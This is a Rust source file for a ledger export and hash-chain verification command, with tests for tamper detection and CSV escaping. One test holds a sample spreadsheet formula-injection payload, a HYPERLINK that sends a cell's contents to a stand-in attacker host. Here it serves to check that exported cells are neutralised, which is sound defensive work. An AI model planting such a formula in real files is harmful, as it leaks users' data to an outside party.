//! `leaf ledger …`: a gapless series' ledger exported from a running cluster (JSON lines that
//! `verify` reads, or CSV for a spreadsheet), and the offline check of an export's hash chain.
//!
//! An export's first line is a [`Header`] (the tag, its count of numbers and the chain's head
//! as the cluster answered them); each following line is one [`LedgerEntry`]. `verify` recomputes
//! every link from the first (`leaf_raft_store::chain_hash`), checks that each period's numbers
//! run 1..=N and that each key has one number, and that the last link is the header's head: a
//! number altered, removed, inserted or reordered is found, and so is a header changed without
//! its numbers.
use std::collections::{BTreeMap, BTreeSet};
use std::io::{BufRead, Write};
use std::path::PathBuf;
use std::process::ExitCode;

use clap::Subcommand;
use leaf_api::gapless::{hash_hex, parse_hash, LedgerEntry, NumberState};
use leaf_client::Client;
use leaf_raft_store::ChainEvent;
use serde::{Deserialize, Serialize};

use super::remote::{connect, fail, ConnArgs};

#[derive(Subcommand, Debug)]
pub enum LedgerCmd {
    /// Export a gapless series' ledger to standard output: JSON lines (a header line, then one
    /// number per line), or CSV with --csv. Needs the tags right on the tag.
    Export {
        tag: String,
        /// CSV (period, number, display, key, state, actor, at_ms, hash) for people; `verify`
        /// reads the JSON lines.
        #[arg(long)]
        csv: bool,
        #[command(flatten)]
        conn: ConnArgs,
    },
    /// Check an export's hash chain, its numbering (1..=N in each period, one number per key)
    /// and its head, offline. FILE is a JSON-lines export (`-` reads standard input). Exit 0 when
    /// it holds, 1 when it does not.
    Verify {
        file: PathBuf,
        /// The head the cluster answers now (`GET /admin/tags/{tag}/ledger`'s `head`): the
        /// export must end there, not only at its own header's head.
        #[arg(long)]
        head: Option<String>,
    },
}

/// An export's first line.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Header {
    pub tag: String,
    pub numbers: u64,
    pub head: String,
}

pub async fn ledger(cmd: LedgerCmd) -> ExitCode {
    match cmd {
        LedgerCmd::Export { tag, csv, conn } => match connect(conn, std::time::Duration::from_secs(30)) {
            Ok(client) => export(&client, &tag, csv).await,
            Err(code) => code,
        },
        LedgerCmd::Verify { file, head } => {
            let read = if file.as_os_str() == "-" {
                verify(std::io::stdin().lock())
            } else {
                match std::fs::File::open(&file) {
                    Ok(f) => verify(std::io::BufReader::new(f)),
                    Err(e) => Err(format!("{}: {e}", file.display())),
                }
            };
            match read.and_then(|v| match head {
                Some(h) if h != v.head => Err(format!("the export ends at {}, the cluster's head is {h}", v.head)),
                _ => Ok(v),
            }) {
                Ok(v) => {
                    println!(
                        "ok: {} numbers of {:?} in {} period(s), {} reservation(s) open, head {}",
                        v.numbers, v.tag, v.periods, v.open, v.head
                    );
                    ExitCode::SUCCESS
                }
                Err(e) => {
                    eprintln!("error: {e}");
                    ExitCode::from(1)
                }
            }
        }
    }
}

/// Reads of a changing ledger before an export gives up.
const EXPORT_ATTEMPTS: usize = 5;

async fn export(client: &Client, tag: &str, csv: bool) -> ExitCode {
    // A settlement between two pages changes an entry already read: read again until the
    // pages agree with the head the last one answered (what `verify` checks).
    let mut attempt = 0;
    let (entries, header) = loop {
        attempt += 1;
        let (entries, head) = match client.gapless(tag).ledger(None).await {
            Ok(got) => got,
            Err(e) => return fail(&e),
        };
        let header = Header { tag: tag.to_string(), numbers: entries.len() as u64, head };
        let mut text = Vec::new();
        if write_lines(&mut text, &header, &entries).is_ok() && verify(&text[..]).is_ok() {
            break (entries, header);
        }
        if attempt == EXPORT_ATTEMPTS {
            eprintln!(
                "error: the ledger of {tag:?} changed during each of {EXPORT_ATTEMPTS} reads (or does not verify): \
                 export it when its reservations are settled"
            );
            return ExitCode::from(1);
        }
    };
    let out = std::io::stdout();
    let mut out = std::io::BufWriter::new(out.lock());
    let written = if csv { write_csv(&mut out, &entries) } else { write_lines(&mut out, &header, &entries) };
    match written.and_then(|()| out.flush()) {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("error: writing the export: {e}");
            ExitCode::from(2)
        }
    }
}

fn write_lines(out: &mut impl Write, header: &Header, entries: &[LedgerEntry]) -> std::io::Result<()> {
    writeln!(out, "{}", serde_json::to_string(header)?)?;
    for e in entries {
        writeln!(out, "{}", serde_json::to_string(e)?)?;
    }
    Ok(())
}

fn write_csv(out: &mut impl Write, entries: &[LedgerEntry]) -> std::io::Result<()> {
    writeln!(out, "period,number,display,key,state,actor,at_ms,deadline_ms,settled_by,settled_ms,reason,hash")?;
    let json = |v: &dyn erased::Json| v.text();
    for e in entries {
        let s = e.settled.as_ref();
        let fields = [
            e.period.to_string(),
            e.number.to_string(),
            e.display.clone().unwrap_or_default(),
            e.key.clone(),
            json(&e.state).trim_matches('"').to_string(),
            json(&e.actor),
            e.at_ms.to_string(),
            e.deadline_ms.map(|d| d.to_string()).unwrap_or_default(),
            s.map(|s| json(&s.actor)).unwrap_or_default(),
            s.map(|s| s.at_ms.to_string()).unwrap_or_default(),
            s.and_then(|s| s.reason.clone()).unwrap_or_default(),
            e.hash.clone(),
        ];
        let line: Vec<String> = fields.iter().map(|f| csv_field(f)).collect();
        writeln!(out, "{}", line.join(","))?;
    }
    Ok(())
}

/// JSON text of a field, for the CSV.
mod erased {
    pub trait Json {
        fn text(&self) -> String;
    }

    impl<T: serde::Serialize> Json for T {
        fn text(&self) -> String {
            serde_json::to_string(self).unwrap_or_default()
        }
    }
}

/// A CSV field, quoted (quotes doubled) when it holds a comma, a quote, a line break or a space
/// at either end. A field a spreadsheet would read as a formula (it starts with `=`, `+`, `-`,
/// `@`, a tab or a carriage return: OWASP's rule for CSV injection) is written as text: a `'`
/// before it, and quoted. Any caller can choose a key or a void's reason, so without this an
/// export opened in a spreadsheet would run what a stranger wrote.
fn csv_field(f: &str) -> String {
    if f.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        return format!("\"'{}\"", f.replace('"', "\"\""));
    }
    if f.contains([',', '"', '\n', '\r']) || f.starts_with(' ') || f.ends_with(' ') {
        format!("\"{}\"", f.replace('"', "\"\""))
    } else {
        f.to_string()
    }
}

/// What a verified export holds.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Verified {
    pub tag: String,
    pub numbers: u64,
    pub periods: usize,
    /// Reservations not yet settled.
    pub open: u64,
    pub head: String,
}

/// One event of a period's chain as an export shows it: its place, the number it is about,
/// and its link.
struct Event<'a> {
    seq: u64,
    at: (u32, u64),
    event: ChainEvent<'a>,
    hash: &'a str,
}

/// Checks an export read from `input` (see the module's documentation).
pub fn verify(input: impl BufRead) -> Result<Verified, String> {
    let mut lines = input.lines().enumerate();
    let header: Header = match lines.next() {
        Some((_, Ok(l))) => serde_json::from_str(&l).map_err(|e| format!("line 1 is not an export header: {e}"))?,
        Some((_, Err(e))) => return Err(format!("reading line 1: {e}")),
        None => return Err("the export is empty".into()),
    };
    let mut entries = Vec::new();
    for (i, line) in lines {
        let n = i + 1;
        let line = line.map_err(|e| format!("reading line {n}: {e}"))?;
        let e: LedgerEntry =
            serde_json::from_str(&line).map_err(|err| format!("line {n}: not a ledger entry: {err}"))?;
        entries.push((n, e));
    }
    let mut last: Option<(u32, u64)> = None;
    let mut keys = BTreeSet::new();
    let mut events: BTreeMap<u32, Vec<Event>> = BTreeMap::new();
    let mut open = 0;
    for (n, e) in &entries {
        let expected = match last {
            Some((p, k)) if p == e.period => (p, k + 1),
            Some((p, _)) if e.period < p => return Err(format!("line {n}: period {} after period {p}", e.period)),
            _ => (e.period, 1),
        };
        if (e.period, e.number) != expected {
            return Err(format!(
                "line {n}: number {} of period {}, expected {} of period {}: a number is missing or out of order",
                e.number, e.period, expected.1, expected.0
            ));
        }
        // A number lost with a cluster (voided by a restore) has no key.
        let lost = e.settled.as_ref().is_some_and(|s| s.cause == Some(leaf_api::gapless::VoidCause::Lost));
        if e.key.is_empty() != lost {
            return Err(format!("line {n}: only a number lost with a cluster has an empty key"));
        }
        if !lost && !keys.insert(e.key.clone()) {
            return Err(format!("line {n}: key {:?} has a number already", e.key));
        }
        let at = (e.period, e.number);
        let created = match e.deadline_ms {
            None => ChainEvent::Issue { key: &e.key, actor: &e.actor, at_ms: e.at_ms },
            Some(deadline_ms) => ChainEvent::Reserve { key: &e.key, actor: &e.actor, at_ms: e.at_ms, deadline_ms },
        };
        let list = events.entry(e.period).or_default();
        list.push(Event { seq: e.seq, at, event: created, hash: &e.hash });
        let state = match (&e.settled, e.deadline_ms) {
            (None, None) => NumberState::Issued,
            (None, Some(_)) => {
                open += 1;
                NumberState::Reserved
            }
            (Some(_), None) => return Err(format!("line {n}: a number issued final shows a settlement")),
            (Some(s), Some(_)) => {
                let event = match (s.state, s.cause, s.reason.as_deref()) {
                    (NumberState::Confirmed, None, None) => ChainEvent::Confirm { actor: &s.actor, at_ms: s.at_ms },
                    (NumberState::Voided, Some(cause), Some(reason)) => {
                        ChainEvent::Void { actor: &s.actor, at_ms: s.at_ms, cause, reason }
                    }
                    _ => return Err(format!("line {n}: a settlement that is neither a confirmation nor a void")),
                };
                list.push(Event { seq: s.seq, at, event, hash: &s.hash });
                s.state
            }
        };
        if state != e.state {
            return Err(format!("line {n}: state {:?} does not match its fields ({state:?})", e.state));
        }
        last = Some(at);
    }
    let mut heads = Vec::new();
    for (period, mut list) in events {
        list.sort_by_key(|e| e.seq);
        let mut prev = leaf_raft_store::CHAIN_GENESIS;
        for (i, e) in list.iter().enumerate() {
            if e.seq != i as u64 + 1 {
                return Err(format!(
                    "period {period}: event {} where {} was expected: an event is missing or repeated",
                    e.seq,
                    i + 1
                ));
            }
            let link = leaf_raft_store::chain_hash(&prev, &header.tag, e.at, e.seq, &e.event);
            if parse_hash(e.hash) != Some(link) {
                return Err(format!(
                    "period {period}, event {} (number {}): its hash does not follow from the events before it \
                     (altered)",
                    e.seq, e.at.1
                ));
            }
            prev = link;
        }
        heads.push((period, list.len() as u64, prev));
    }
    let periods = heads.len();
    let head = hash_hex(&leaf_raft_store::heads_digest(heads));
    let count = entries.len() as u64;
    if head != header.head || count != header.numbers {
        return Err(format!(
            "the export holds {count} numbers whose chains end at {head}; its header says {} ending at {}: \
             numbers or events were removed or added",
            header.numbers, header.head
        ));
    }
    Ok(Verified { tag: header.tag, numbers: count, periods, open, head })
}

#[cfg(test)]
mod tests {
    use leaf_api::audit::Actor;
    use leaf_api::gapless::NumberState;

    use super::*;

    /// A genuine export of `n` numbers: periods 2026 then 2027 after the first `split`; every
    /// third number reserved, then (after the next number) confirmed, voided, or left open.
    fn export(n: u64, split: u64) -> (Header, Vec<LedgerEntry>) {
        use leaf_api::gapless::{Settlement, VoidCause};
        let actor = Actor::Token { id: leaf_api::tokens::TokenId(3), name: "billing".into() };
        let mut out: Vec<LedgerEntry> = Vec::new();
        let mut chains: BTreeMap<u32, (u64, [u8; 32])> = BTreeMap::new();
        let mut link = |period: u32, at: (u32, u64), event: &ChainEvent| {
            let (seq, prev) = chains.entry(period).or_insert((0, leaf_raft_store::CHAIN_GENESIS));
            *seq += 1;
            *prev = leaf_raft_store::chain_hash(prev, "inv", at, *seq, event);
            (*seq, hash_hex(prev))
        };
        let mut pending: Option<usize> = None;
        for i in 0..n {
            let (period, number) = if i < split { (2026, i + 1) } else { (2027, i - split + 1) };
            let key = format!("order-{i}");
            let at_ms = 1_000 + i as i64;
            let deadline_ms = (i % 3 == 0).then_some(at_ms + 60_000);
            let event = match deadline_ms {
                None => ChainEvent::Issue { key: &key, actor: &actor, at_ms },
                Some(deadline_ms) => ChainEvent::Reserve { key: &key, actor: &actor, at_ms, deadline_ms },
            };
            let (seq, hash) = link(period, (period, number), &event);
            let state = if deadline_ms.is_some() { NumberState::Reserved } else { NumberState::Issued };
            out.push(LedgerEntry {
                period,
                number,
                display: None,
                key: key.clone(),
                state,
                actor: actor.clone(),
                at_ms,
                deadline_ms,
                seq,
                hash,
                settled: None,
            });
            // Settle the previous reservation now (in its own period's chain).
            if let Some(j) = pending.take() {
                let e = &out[j];
                let at = (e.period, e.number);
                let settled = if j % 2 == 0 {
                    let (seq, hash) = link(e.period, at, &ChainEvent::Confirm { actor: &actor, at_ms: at_ms + 1 });
                    let state = NumberState::Confirmed;
                    Settlement { state, cause: None, reason: None, actor: actor.clone(), at_ms: at_ms + 1, seq, hash }
                } else {
                    let event =
                        ChainEvent::Void { actor: &actor, at_ms: at_ms + 1, cause: VoidCause::Caller, reason: "typo" };
                    let (seq, hash) = link(e.period, at, &event);
                    Settlement {
                        state: NumberState::Voided,
                        cause: Some(VoidCause::Caller),
                        reason: Some("typo".into()),
                        actor: actor.clone(),
                        at_ms: at_ms + 1,
                        seq,
                        hash,
                    }
                };
                out[j].state = settled.state;
                out[j].settled = Some(settled);
            }
            if deadline_ms.is_some() {
                pending = Some(out.len() - 1);
            }
        }
        let heads = chains.iter().map(|(p, (seq, head))| (*p, *seq, *head));
        let head = hash_hex(&leaf_raft_store::heads_digest(heads));
        (Header { tag: "inv".into(), numbers: n, head }, out)
    }

    fn text(h: &Header, entries: &[LedgerEntry]) -> Vec<u8> {
        let mut out = Vec::new();
        write_lines(&mut out, h, entries).unwrap();
        out
    }

    #[test]
    fn a_genuine_export_verifies() {
        let (h, e) = export(7, 4);
        let states: Vec<NumberState> = e.iter().map(|e| e.state).collect();
        use NumberState::*;
        assert_eq!(states, [Confirmed, Issued, Issued, Voided, Issued, Issued, Reserved]);
        let v = verify(&text(&h, &e)[..]).unwrap();
        assert_eq!((v.numbers, v.periods, v.open, v.head), (7, 2, 1, h.head));
        let (h, e) = export(0, 0);
        assert_eq!(verify(&text(&h, &e)[..]).unwrap().numbers, 0);
    }

    #[test]
    fn every_tampering_is_found() {
        let (h, e) = export(7, 4);
        let mut cases: Vec<(&str, Header, Vec<LedgerEntry>)> = Vec::new();
        let mut altered = e.clone();
        altered[2].key = "someone-else".into();
        cases.push(("a key altered", h.clone(), altered));
        let mut altered = e.clone();
        altered[5].at_ms += 1;
        cases.push(("a time altered", h.clone(), altered));
        let mut altered = e.clone();
        altered[1].actor = Actor::AdminToken;
        cases.push(("an actor altered", h.clone(), altered));
        let mut removed = e.clone();
        removed.remove(3);
        cases.push(("a number removed", h.clone(), removed));
        let mut last_removed = e.clone();
        last_removed.pop();
        cases.push(("the last number removed", h.clone(), last_removed));
        let mut swapped = e.clone();
        swapped.swap(1, 2);
        cases.push(("two numbers swapped", h.clone(), swapped));
        let mut twice = e.clone();
        twice[4].key = twice[0].key.clone();
        cases.push(("a key twice", h.clone(), twice));
        let mut reason = e.clone();
        reason[3].settled.as_mut().unwrap().reason = Some("other".into());
        cases.push(("a void's reason altered", h.clone(), reason));
        let mut unsettled = e.clone();
        unsettled[3].settled = None;
        unsettled[3].state = NumberState::Reserved;
        cases.push(("a void removed", h.clone(), unsettled));
        let mut flipped = e.clone();
        flipped[0].settled.as_mut().unwrap().state = NumberState::Voided;
        flipped[0].state = NumberState::Voided;
        cases.push(("a confirmation shown as a void", h.clone(), flipped));
        let mut state_only = e.clone();
        state_only[6].state = NumberState::Confirmed;
        cases.push(("a state altered alone", h.clone(), state_only));
        let mut renumbered = e.clone();
        for x in renumbered.iter_mut().skip(3) {
            x.number += 1;
        }
        cases.push(("a gap", h.clone(), renumbered));
        cases.push(("another tag's header", Header { tag: "other".into(), ..h.clone() }, e.clone()));
        let (h5, _) = export(5, 4);
        cases.push(("a header of fewer numbers", h5, e.clone()));
        for (what, h, e) in cases {
            assert!(verify(&text(&h, &e)[..]).is_err(), "{what} verified");
        }
        assert!(verify(&b"not json\n"[..]).is_err());
        assert!(verify(&b""[..]).is_err());
    }

    #[test]
    fn csv_fields_are_quoted_when_they_must_be() {
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field(" lead"), "\" lead\"");
        assert_eq!(csv_field("cr\rin"), "\"cr\rin\"");
    }

    #[test]
    fn csv_cells_a_spreadsheet_would_run_are_written_as_text() {
        let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#;
        assert_eq!(csv_field(evil), r#""'=HYPERLINK(""http://evil.example/?""&A1,""x"")""#);
        for lead in ["=", "+", "-", "@", "\t", "\r"] {
            let f = csv_field(&format!("{lead}1+1"));
            assert!(f.starts_with("\"'"), "{lead:?}: {f}");
        }
        assert_eq!(csv_field("a=b"), "a=b", "only a leading character counts");
    }
}
